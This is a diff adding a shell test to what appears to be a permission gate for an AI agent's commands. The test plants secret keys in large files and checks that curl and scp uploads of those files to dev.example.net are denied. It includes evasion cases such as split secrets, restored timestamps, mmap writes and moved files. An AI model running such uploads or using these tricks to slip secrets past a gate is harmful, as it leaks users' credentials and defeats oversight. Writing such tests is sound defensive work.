@@ -409,6 +409,104 @@ unanswered() { # LINE: neither goes it without a word
 	rm long
 }
 
+# Is it read for a verdict?  By what of it is in memory afterwards.
+read_again() { # YES-OR-NO FILE
+	local pages
+	/usr/bin/sync "$2"
+	/usr/bin/dd "if=$2" iflag=nocache count=0 2>/dev/null
+	verdict allow "curl -s -T $2 http://dev.example.net/x" || return 1
+	pages=$(fincore -no PAGES "$2") || return 1
+	case $1 in
+	yes) [ "$pages" -gt 0 ] ;;
+	no) [ "$pages" -eq 0 ] ;;
+	esac || { echo "$2: $pages pages, read again: $1?"; return 1; }
+}
+
+plant() { # FILE [AT]: and its time as before
+	local time
+	time=$(stat -c %y "$1")
+	printf %s "$secret" | /usr/bin/dd "of=$1" bs=1 conv=notrunc \
+		seek="${2:-5000}" 2>/dev/null
+	/usr/bin/touch -d "$time" "$1"
+}
+
+@test "a large file is looked through again once it may hold something" {
+	local f last to=http://dev.example.net
+	local sent=(--connect-to "dev.example.net:80:127.0.0.1:$http")
+	local key=Jd5wQc81RnYx0MvTbLz7
+
+	mkdir -p ~/.config/automode
+	printf '[network]\n\ttrust = dev.example.net\n' \
+		>~/.config/automode/policy
+	for f in same put more mapped known moved again holes other; do
+		truncate -s 65M "$f"
+	done
+	plant other
+	printf %s "$key" | /usr/bin/dd of=known bs=1 conv=notrunc seek=9 \
+		2>/dev/null
+	# halves that a block keeps apart
+	printf %s "${secret:0:10}" | /usr/bin/dd of=holes bs=1 conv=notrunc \
+		seek=$((1048576 - 10)) 2>/dev/null
+	printf %s "${secret:10}" | /usr/bin/dd of=holes bs=1 conv=notrunc \
+		seek=$((2 * 1048576)) 2>/dev/null
+	mkfifo go
+	/usr/bin/python3 -c 'import mmap, os, sys
+fd = os.open("mapped", os.O_RDWR)
+m = mmap.mmap(fd, 65 << 20)
+os.close(fd)
+m[7000] = 1
+open("ready", "w").close()
+open("go").read()
+m[7000:7000 + len(sys.argv[1])] = sys.argv[1].encode()
+open("written", "w").close()
+open("go").read()' "$secret" 3>&- &
+	until_true [ -e ready ]
+	sleep 2.1 # what is younger is not remembered
+	for f in same put more mapped known moved again holes; do
+		verdict allow "curl -s -T $f $to/x"
+	done
+	case $(stat -f -c %T .) in
+	ext2/ext3 | xfs | btrfs)
+		for f in same put more known moved again holes; do
+			read_again no $f
+		done
+		read_again yes mapped
+		(exec 9<>same) # nothing is changed by that
+		read_again yes same
+		read_again no same
+		;;
+	esac
+	plant put
+	verdict deny "curl -s -T put $to/x"
+	refused "curl -s ${sent[*]} -T put $to/x"
+	refused "curl -s ${sent[*]} -F f=@put $to/x"
+	refused "curl -s ${sent[*]} -d @- $to/x <put"
+	verdict deny "scp put dev.example.net:"
+	plant more $((65 << 20))
+	verdict deny "curl -s -T more $to/x"
+	: >go
+	until_true [ -e written ]
+	verdict deny "curl -s -T mapped $to/x"
+	: >go
+	wait $!
+	verdict deny "curl -s -T mapped $to/x"
+	printf 'NEW_KEY=%s\n' "$key" >>.env
+	verdict deny "curl -s -T known $to/x"
+	verdict allow "curl -s -T same $to/x"
+	/usr/bin/mv other moved
+	verdict deny "curl -s -T moved $to/x"
+	last=$(stat -c %y again)
+	/usr/bin/rm again
+	truncate -s 65M again
+	plant again
+	/usr/bin/touch -d "$last" again
+	verdict deny "curl -s -T again $to/x"
+	if fallocate -c -o 1M -l 1M holes 2>/dev/null; then
+		verdict deny "curl -s -T holes $to/x"
+	fi
+	verdict allow "curl -s -T same $to/x"
+}
+
 @test "what a netrc holds for a host is not printed" {
 	local o to=http://git.corp.example/x
 
